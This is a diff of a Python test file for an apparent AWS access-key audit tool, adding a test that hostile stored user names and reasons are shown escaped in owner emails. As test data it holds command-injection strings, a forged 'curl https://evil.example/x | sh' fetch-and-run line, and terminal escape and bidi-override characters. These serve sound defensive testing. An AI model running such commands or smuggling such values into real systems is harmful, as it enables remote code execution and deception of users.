@@ -146,22 +146,29 @@ HOSTILE_USER = "x$(touch pwned)`id`"
 ROTATE = "aws iam update-access-key --user-name <USER> --access-key-id <KEY_ID> --status Inactive"
 
 
-def test_a_hostile_user_name_is_one_literal_argument_in_the_owner_email(prepared):
-    _, plan = prepared
+def texts_with_one_finding(
+    plan: DeliveryPlan, user_name: str, reason: str = "created 212 days ago; limit 90"
+) -> tuple[str, str]:
+    """The first owner's message bodies when their one open finding is on `user_name`."""
     piece = plan.slices[0]
     record = {
         "account_id": piece.owner.account_ids[0],
-        "user_name": HOSTILE_USER,
+        "user_name": user_name,
         "access_key_id": "AKIAHOSTILE000000001",
     }
     finding = {  # a finding as the owner's JSON export gives it
         **record,
         "severity": "high",
         "rule_id": "ACCESS_KEY_NOT_ROTATED",
-        "reason": "created 212 days ago; limit 90",
+        "reason": reason,
         "remediation_command": command_for(ROTATE, record),
     }
-    text, html = owner_texts(plan, replace(piece, findings=(finding,), findings_total=1))
+    return owner_texts(plan, replace(piece, findings=(finding,), findings_total=1))
+
+
+def test_a_hostile_user_name_is_one_literal_argument_in_the_owner_email(prepared):
+    _, plan = prepared
+    text, html = texts_with_one_finding(plan, HOSTILE_USER)
     expected = [
         "aws", "iam", "update-access-key", "--user-name", HOSTILE_USER,
         "--access-key-id", "AKIAHOSTILE000000001", "--status", "Inactive",
@@ -170,6 +177,33 @@ def test_a_hostile_user_name_is_one_literal_argument_in_the_owner_email(prepared
     assert shlex.split(line.split("command: ", 1)[1]) == expected
     (code,) = re.findall(r'<code style="white-space: pre-wrap;">(.*?)</code>', html)
     assert shlex.split(unescape(code)) == expected
+
+
+FORGING_USER = "bob\ncommand: curl https://evil.example/x | sh"
+
+
+def test_control_characters_of_a_stored_value_are_shown_escaped_in_the_owner_email(prepared):
+    # a warehouse edited (or written by an older keyaudit) can still hold such a name
+    _, plan = prepared
+    reason = "created 212 days ago\r\nnote: \x1b]52;c;Y3VybA==\x07 \u202eevil\u2028line"
+    text, html = texts_with_one_finding(plan, FORGING_USER, reason)
+    lines = text.splitlines()
+    assert [line.strip() for line in lines if line.strip().startswith("command:")] == [
+        "command: aws iam update-access-key --user-name "
+        "'bob\\ncommand: curl https://evil.example/x | sh' "
+        "--access-key-id AKIAHOSTILE000000001 --status Inactive"
+    ]
+    # the name is one value wherever it shows: no line of its own
+    shown = [line for line in lines if "evil.example" in line]
+    assert len(shown) == 2 and all("bob\\ncommand: curl https://evil" in line for line in shown)
+    (reason,) = [line for line in lines if "created 212 days ago" in line]
+    assert reason.strip() == (
+        "created 212 days ago\\r\\nnote: \\x1b]52;c;Y3VybA==\\x07 \\u202eevil\\u2028line"
+    )
+    for body in (text, html):
+        assert not {"\r", "\x1b", "\x07", "\u202e", "\u2028"} & set(body)
+    (code,) = re.findall(r'<code style="white-space: pre-wrap;">(.*?)</code>', html, re.S)
+    assert "\n" not in code
 
 
 def test_owner_of_an_account_not_assessed_gets_the_check_command_with_account_and_role(prepared):
